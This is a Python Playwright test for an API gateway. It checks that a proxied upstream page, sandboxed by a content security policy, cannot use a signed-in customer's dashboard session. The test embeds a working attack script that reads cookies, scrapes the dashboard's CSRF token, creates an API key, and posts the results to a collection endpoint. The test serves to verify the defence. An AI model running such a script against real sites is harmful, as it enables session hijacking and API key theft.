"""A proxied page cannot act as the dashboard: a signed-in customer opens a link under /api/v1
(carrying the attacker's own key, as a reflected XSS on an upstream would be used), and the
page's script tries to read the dashboard, take its CSRF token and create a key with it."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator, Callable, Iterator
from pathlib import Path

import pytest
from playwright.async_api import Browser
from sqlalchemy import func, select

from novo_gateway.billing.stripe_client import StripeBilling
from novo_gateway.keys.models import ApiKey
from novo_gateway.kit.config import Settings
from novo_gateway.kit.db import session_scope
from tests.browser.conftest import Gateway, running_gateway
from tests.browser.helpers import register
from tests.browser.test_customer_dashboard import sign_in
from tests.gateway.wsgi_upstream import RecordingUpstream, wsgi_upstream

# What the attacker's page does once its script runs: each step reports what it got.
ATTACK = """<!doctype html>
<html><body><p id="out">script did not run</p>
<script>
(async () => {
  const report = {};
  try { report.cookie = document.cookie; } catch (e) { report.cookie = "blocked: " + e.name; }
  let csrf = "";
  try {
    const page = await (await fetch("/dashboard", {credentials: "include"})).text();
    report.dashboard = page.slice(0, 4000);
    csrf = (page.match(/name="csrf" value="([^"]+)"/) || ["", ""])[1];
  } catch (e) { report.dashboard = "blocked: " + e.name; }
  try {
    const made = await fetch("/dashboard/keys", {
      method: "POST", credentials: "include",
      headers: {"Content-Type": "application/x-www-form-urlencoded"},
      body: "name=stolen&csrf=" + encodeURIComponent(csrf),
    });
    report.created = made.status + " " + (await made.text()).slice(0, 4000);
  } catch (e) { report.created = "blocked: " + e.name; }
  document.getElementById("out").textContent = JSON.stringify(report);
  await fetch("SINK", {method: "POST", mode: "no-cors", body: JSON.stringify(report)});
})();
</script></body></html>
"""


@pytest.fixture
def upstream() -> Iterator[RecordingUpstream]:
    with wsgi_upstream() as server:
        server.page = ATTACK.replace("SINK", server.url + "/collect").encode()
        yield server


@pytest.fixture
async def proxied_gateway(
    upstream: RecordingUpstream,
    make_stripe_settings: Callable[..., Settings],
    stripe_billing: StripeBilling,
    tmp_path: Path,
) -> AsyncIterator[Gateway]:
    routes = tmp_path / "routes.toml"
    routes.write_text(
        f'[[routes]]\nprefix = "/api/v1/search"\nupstream = "{upstream.url}"\n\n'
        f'[[routes]]\nprefix = "/api/v1/scripted"\nupstream = "{upstream.url}"\n'
        'content_security_policy = "sandbox allow-scripts"\n'
    )
    async with running_gateway(make_stripe_settings, stripe_billing, routes_file=routes) as gw:
        yield gw


async def _keys(gateway: Gateway, user_id: int) -> int:
    async with session_scope(gateway.sessions) as session:
        count = await session.scalar(
            select(func.count()).select_from(ApiKey).where(ApiKey.user_id == user_id)
        )
    return int(count or 0)


async def test_a_proxied_page_cannot_read_or_use_the_dashboard_session(
    browser: Browser, proxied_gateway: Gateway, upstream: RecordingUpstream
) -> None:
    gateway = proxied_gateway
    victim = await register(gateway, "victim@example.com", "Victim")
    attacker = await register(gateway, "attacker@example.com", "Attacker")
    keys_before = await _keys(gateway, victim.user_id)
    context = await browser.new_context()
    page = await context.new_page()
    await sign_in(page, gateway, victim.email)

    # The default policy, `sandbox`: the page is shown, its script never runs.
    response = await page.goto(f"{gateway.url}/api/v1/search/page?api_key={attacker.key}")
    assert response is not None and response.status == 200
    assert response.headers["content-security-policy"] == "sandbox"
    assert await page.inner_text("#out") == "script did not run"

    # An operator's policy that lets scripts run keeps the sandbox's opaque origin: the script
    # runs, yet gets neither the cookie, nor the dashboard, nor a key made with the session.
    await page.goto(f"{gateway.url}/api/v1/scripted/page?api_key={attacker.key}")
    assert await asyncio.to_thread(upstream.arrived.wait, 20), "the script sent no report"
    report = json.loads(upstream.collected[-1])
    assert report["cookie"].startswith("blocked")
    assert report["dashboard"].startswith("blocked")
    assert victim.email not in json.dumps(report)
    assert "nk_" not in report["created"]
    assert await _keys(gateway, victim.user_id) == keys_before
    assert json.loads(await page.inner_text("#out")) == report

    # The session itself still works on the dashboard.
    await page.goto(f"{gateway.url}/dashboard")
    assert victim.email in await page.content()
    await context.close()
